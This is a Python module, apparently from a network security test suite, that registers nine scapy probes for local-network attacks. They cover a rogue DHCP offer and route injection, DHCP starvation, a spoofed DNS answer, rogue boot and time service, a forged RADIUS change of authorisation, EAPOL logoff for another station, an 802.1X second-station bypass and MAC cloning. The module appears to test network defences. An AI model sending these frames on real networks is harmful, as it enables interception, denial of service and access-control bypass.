"""RG: services that nobody ordered: addresses, names and admissions given out by a terminal."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import replace

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.l2 import Ether
from scapy.packet import Packet

from scenarios.probes.builders import ALL, client, frame, sample, token, udp
from scenarios.probes.frames import blank
from scenarios.probes.headers import (
    AUTHENTICATORS,
    LIMITED,
    carried,
    datagram,
    ipv4,
    mac_bytes,
    neighbour,
    opening,
)
from scenarios.probes.registry import Sendable, entry
from scenarios.probes.roles import Party, Roles

_EAPOL = 0x888E  # IEEE 802.1X-2020, 11.1.4
_COA_REQUEST = 43  # RFC 5176, 2.3


def _lease(r: Roles, kind: str, *options: object) -> Packet:
    """Return a server's message to everybody: your address is ..., your router is me."""
    head = ipv4(r.w, ALL, LIMITED) / carried(68, sport=67)
    there = neighbour(r.w, 99)
    lease = BOOTP(op=2, yiaddr=there, siaddr=r.w.ip, xid=1, sname=blank())
    return head / lease / DHCP(options=[("message-type", kind), *options, "end"])


def _named(party: Party, mac: str) -> Party:
    return replace(party, mac=mac)


@entry("RG-01", "a rogue DHCP offer", "RFC 2131; yersinia")
def offer(r: Roles) -> Iterator[Sendable]:
    """Router and resolver: me."""
    yield _lease(r, "offer", ("router", r.w.ip), ("name_server", r.w.ip))


@entry("RG-02", "DHCP routes to the target", "CVE-2024-3661; RFC 3442")
def routes(r: Roles) -> Iterator[Sendable]:
    """Option 121: the way to the target's subnet is through me."""
    network = bytes(int(part) for part in r.r.ip.split("."))[:3]
    me = bytes(int(part) for part in r.w.ip.split("."))
    yield _lease(r, "ack", (121, b"\x18" + network + me))


@entry("RG-03", "asking for every address", "yersinia; DHCPig")
def starvation(r: Roles) -> Iterator[Sendable]:
    """A hundred clients behind one port."""
    for number in sample(r, range(100)):
        client_mac = f"02:aa:00:00:00:{number:02x}"
        party = _named(r.w, client_mac)
        request = BOOTP(op=1, chaddr=mac_bytes(party), xid=number, sname=blank())
        head = ipv4(party, ALL, LIMITED, src="0.0.0.0") / carried(67, sport=68)
        yield head / request / DHCP(options=[("message-type", "discover"), "end"])


@entry("RG-04", "a spoofed DNS answer", "RFC 5452")
def dns_answer(r: Roles) -> Iterator[Sendable]:
    """In the name of the resolver, to somebody who never asked."""
    answer = struct.pack("!HHHHHH", 1, 0x8180, 0, 0, 0, 0)
    for hop in (r.t, r.g):
        yield ipv4(r.w, hop, r.t, src=r.x.ip) / carried(client(), answer, sport=53) / token()


@entry("RG-05", "rogue boot, proxy and time service", "RFC 4578; RFC 5905; Responder")
def boot_and_time(r: Roles) -> Iterator[Sendable]:
    """Answers that nobody asked for, in one's own name and in another's."""
    for port in (69, 4011, 123):
        yield udp(r.w, r.g, r.t, sport=port, dport=client())
        yield ipv4(r.w, r.g, r.t, src=r.x.ip) / datagram(client(), sport=port)


@entry("RG-06", "a rogue change of authorisation", "RFC 5176; CVE-2024-3596")
def change_of_authorisation(r: Roles) -> Iterator[Sendable]:
    """RADIUS in the name of a management device: move this terminal."""
    message = struct.pack("!BBH", _COA_REQUEST, 1, 36) + bytes(16)
    for there in (r.g, r.t, r.c):
        yield ipv4(r.w, r.g, there, src=r.c.ip) / carried(3799, message, sport=3799) / token()


@entry("RG-07", "EAPOL start and logoff for another", "IEEE 802.1X-2004, 7.5.4")
def logoff(r: Roles) -> Iterator[Sendable]:
    """Nothing behind the port may hear it."""
    for kind in (1, 2):
        head = Ether(src=r.t.mac, dst=AUTHENTICATORS, type=_EAPOL)
        yield head / struct.pack("!BBH", 2, kind, 0) / token()


@entry(
    "RG-08", "a second station behind an admitted port", "802.1X bypass (Riley 2005); silentbridge"
)
def second_station(r: Roles) -> Iterator[Sendable]:
    """An unknown MAC address with a known IP address, at both ports."""
    stranger = _named(r.t, "02:ee:00:00:00:01")
    yield ipv4(stranger, r.g, r.r) / opening(r.r)
    yield r.t.id, ipv4(stranger, r.g, r.r) / opening(r.r)


@entry("RG-09", "posing as a device that cannot sign in", "MAC authentication bypass")
def clone(r: Roles) -> Iterator[Sendable]:
    """A printer's MAC address brings a printer's rights; the port must decide."""
    for device in (r.p, r.x):
        yield ipv4(device, r.g, r.r) / opening(r.r)
        yield frame(device, r.g) / ipv4(r.w, r.g, r.r).payload / opening(r.r)
